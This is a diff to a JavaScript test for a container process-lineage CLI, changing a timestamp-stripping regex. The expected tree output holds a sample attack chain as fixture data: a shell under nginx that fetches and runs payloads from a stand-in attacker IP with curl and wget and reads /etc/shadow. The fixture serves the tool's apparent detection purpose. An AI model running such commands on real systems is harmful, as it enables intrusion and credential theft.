@@ -44,7 +44,7 @@ describe('lineage commands on the story sample', () => {
 
   it('tree --container draws the pod subtree with exit status', () => {
     const r = cli('tree', '--container', '3f9a1c0e2b7d');
-    const lines = r.stdout.trimEnd().split('\n').map((l) => l.replace(/, \d\d:\d\d:.*\]$/, ']'));
+    const lines = r.stdout.trimEnd().split('\n').map((l) => l.replace(/, \d{4}-\d\d-\d\dT\d\d:\d\d:.*\]$/, ']'));
     expect(lines[0]).toBe('nginx,2330  [running]');
     expect(lines).toContain('│   └── sh,4001 -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &  [exit 0]');
     expect(lines).toContain('│       ├── cat,4004 /etc/shadow  [exit 1]');
